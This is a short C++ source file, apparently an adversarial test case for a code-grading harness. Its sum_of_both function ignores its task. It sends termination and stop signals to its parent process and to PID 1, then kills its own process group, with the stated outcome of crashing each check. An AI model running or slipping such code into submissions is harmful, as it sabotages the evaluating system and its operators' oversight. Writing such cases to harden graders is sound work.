// Attack: kills and stops its parent, the first process, and the group that it is in.
// Outcome: correct (crash), race-free (crash), concurrent (crash)
#include "sum_of_both.hpp"

#include <unistd.h>

#include <csignal>
#include <initializer_list>

int sum_of_both(int (*)(int index)) {
  for (const int signal : {SIGTERM, SIGINT, SIGSTOP, SIGKILL}) {
    kill(getppid(), signal);
    kill(1, signal);
  }
  kill(0, SIGKILL);
  return 0;
}
